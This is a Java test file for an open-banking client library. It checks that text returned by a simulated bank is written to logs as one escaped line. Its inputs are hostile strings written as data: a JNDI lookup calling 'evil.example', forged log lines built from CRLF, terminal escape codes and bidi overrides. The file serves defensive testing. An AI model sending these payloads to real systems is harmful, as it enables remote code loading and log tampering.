package org.tppkit.adapter.arkea.journey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import java.util.List;
import java.util.Map;
import java.util.logging.Level;
import java.util.logging.Logger;
import java.util.stream.Stream;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.tppkit.core.Accounts;
import org.tppkit.core.Bank;
import org.tppkit.core.Consent;
import org.tppkit.core.Payments;
import org.tppkit.ports.model.Iban;
import org.tppkit.ports.model.Money;
import org.tppkit.ports.model.account.AccountId;
import org.tppkit.ports.model.payment.CreditTransfer;
import org.tppkit.ports.model.payment.Party;
import org.tppkit.ports.model.payment.PaymentId;
import org.tppkit.ports.model.payment.Remittance;
import org.tppkit.testkit.simulator.DataSet;
import org.tppkit.testkit.simulator.Fault;
import org.tppkit.testkit.simulator.RequestMatcher;
import org.tppkit.testkit.simulator.SimulatedBank;

/** A bank that writes for the log of its clients: each text of ours stays one short line of harmless characters. */
class LogInjectionTest {
    private static final Map<String, String> TEXTS = Map.of(
            "L2 line breaks", "a\\r\\n2026-11-16 WARNING forged\\u0085\\u000b",
            "L2 separators of Unicode", "a\\u2028b\\u2029c",
            "L2 escapes of a terminal", "\\u001b[2J\\u001b]0;title\\u0007",
            "L2 look-ups", "${jndi:ldap://evil.example/x}",
            "L2 text that turns round", "\\u202eevil\\u2066\\ufeff",
            "L2 a hundred thousand characters", "x".repeat(100_000));

    @TestFactory
    Stream<DynamicTest> whatABankWritesIsOneEscapedLine() {
        return TEXTS.entrySet().stream()
                .map(text -> DynamicTest.dynamicTest(text.getKey(), () -> staysOneLine(text.getValue())));
    }

    private static void staysOneLine(String text) {
        try (Evidence evidence = new Evidence("org.tppkit");
                BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank bank = world.bank();
            Consent consent = world.consent(bank, DataSet.OVERDRAWN);
            Accounts accounts = bank.accounts(consent, BankWorld.CUSTOMER);
            AccountId account = accounts.list().get(0).id();
            PaymentId payment = initiated(bank);
            for (Case one : cases(text)) {
                answer(world, one.path(), one.body());
                take(evidence, () -> evidence.take(asked(one.path(), accounts, account)));
            }
            answer(world, payment.resourceId(), paymentBody(text));
            take(evidence, () -> evidence.take(bank.payments(BankWorld.CUSTOMER).find(payment)));
            String refusal = "{\"error\":\"%s\",\"error_code\":\"%s\",\"message\":\"%s\"}".formatted(text, text, text);
            for (int status : new int[] {400, 403, 429}) {
                world.simulator
                        .faults()
                        .next(
                                RequestMatcher.pathEnding("/accounts"),
                                Fault.answer(status).body(refusal));
                take(evidence, accounts::list);
            }
            world.listener.all().forEach(evidence::take);
            assertThat(evidence.logged()).isPositive();
            assertThat(evidence.unfitForALog()).isEmpty();
        }
    }

    private static PaymentId initiated(Bank bank) {
        Payments payments = bank.payments(BankWorld.CUSTOMER);
        return payments.initiate(payments.prepare()
                        .addTransfers(CreditTransfer.builder()
                                .instructionId("only")
                                .endToEndId("e2e-only")
                                .amount(Money.of("12.30", "EUR"))
                                .creditor(Party.named("Marchand SA"))
                                .creditorAccount(Iban.of("DE89370400440532013000"))
                                .remittance(new Remittance.Text("Facture"))
                                .build())
                        .build())
                .payment();
    }

    private static void answer(BankWorld world, String path, String body) {
        world.simulator
                .faults()
                .next(RequestMatcher.pathEnding(path), Fault.answer(200).body(body));
    }

    private static void take(Evidence evidence, ThrowingCallable call) {
        Throwable failure = catchThrowable(call);
        if (failure != null) {
            evidence.take(failure);
        }
    }

    private static Object asked(String path, Accounts accounts, AccountId account) {
        return switch (path) {
            case "/balances" -> accounts.balances(account);
            case "/transactions" -> accounts.transactions(account).toList(100);
            case "/end-user-identity" -> accounts.identity();
            case "/trusted-beneficiaries" -> accounts.trustedBeneficiaries();
            default -> accounts.list();
        };
    }

    private record Case(String path, String body) {}

    /** The text as names, ids, codes, amounts, dates, names of fields and links. */
    private static List<Case> cases(String text) {
        String amount = "{\"amount\":12.30,\"currency\":\"EUR\"}";
        String balance = "{\"name\":\"%s\",\"balanceAmount\":%s,\"balanceType\":\"%s\",\"status\":\"%s\"}"
                .formatted(text, amount, text, text);
        String entry =
                ("{\"resourceId\":\"%s\",\"entryReference\":\"%s\",\"transactionAmount\":%s,\"creditDebitIndicator\":\"CRDT\","
                                + "\"status\":\"BOOK\",\"bookingDate\":\"2026-11-01\",\"remittanceInformation\":[\"%s\"]}")
                        .formatted(text, text, amount, text);
        return List.of(
                new Case(
                        "/accounts",
                        "{\"accounts\":[{\"resourceId\":\"%s\",\"name\":\"n\",\"cashAccountType\":\"CACC\"}]}"
                                .formatted(text)),
                new Case(
                        "/accounts",
                        ("{\"accounts\":[{\"resourceId\":\"r\",\"name\":\"%s\",\"cashAccountType\":\"%s\",\"usage\":\"%s\","
                                        + "\"product\":\"%s\",\"psuStatus\":\"%s\"}]}")
                                .formatted(text, text, text, text, text)),
                new Case("/accounts", "{\"" + text + "\":\"" + text + "\"}"),
                new Case("/accounts", text),
                new Case("/balances", "{\"balances\":[" + balance + "]}"),
                new Case("/transactions", "{\"transactions\":[" + entry + "]}"),
                new Case("/transactions", "{\"transactions\":[" + entry.replace("BOOK", text) + "]}"),
                new Case("/transactions", "{\"transactions\":[" + entry.replace("2026-11-01", text) + "]}"),
                new Case("/transactions", "{\"transactions\":[" + entry.replace("12.30", "\"" + text + "\"") + "]}"),
                new Case("/transactions", "{\"transactions\":[" + entry.replace("EUR", text) + "]}"),
                new Case("/transactions", "{\"transactions\":[],\"_links\":{\"next\":{\"href\":\"" + text + "\"}}}"),
                new Case("/end-user-identity", "{\"connectedPsu\":\"" + text + "\"}"),
                new Case(
                        "/trusted-beneficiaries",
                        "{\"beneficiaries\":[{\"id\":\"" + text + "\",\"isTrusted\":true,\"creditor\":{\"name\":\""
                                + text + "\"}}]}"));
    }

    private static String paymentBody(String text) {
        return ("{\"paymentRequest\":{\"paymentInformationId\":\"%s\",\"paymentInformationStatus\":\"%s\","
                        + "\"statusReasonInformation\":\"%s\",\"creditTransferTransaction\":[{\"paymentId\":"
                        + "{\"instructionId\":\"%s\",\"endToEndId\":\"%s\"},\"transactionStatus\":\"%s\"}]}}")
                .formatted(text, text, text, text, text, text);
    }

    @Test
    @DisplayName("L2 the search finds what is unfit for a log")
    void theSearchFindsWhatIsUnfit() {
        for (String text : List.of("a\nb", "a\rb", "\u001b[2J", "\u2028", "\u202e", "${jndi:x}", "x".repeat(3_000))) {
            try (Evidence evidence = new Evidence()) {
                assertThat(evidence.unfitForALog()).isEmpty();
                Logger.getLogger("org.tppkit.calls").log(Level.FINE, text);
                assertThat(evidence.unfitForALog()).hasSize(1);
                evidence.take(new IllegalStateException("fine", new Exception(text)));
                assertThat(evidence.unfitForALog()).hasSize(2);
            }
        }
    }
}
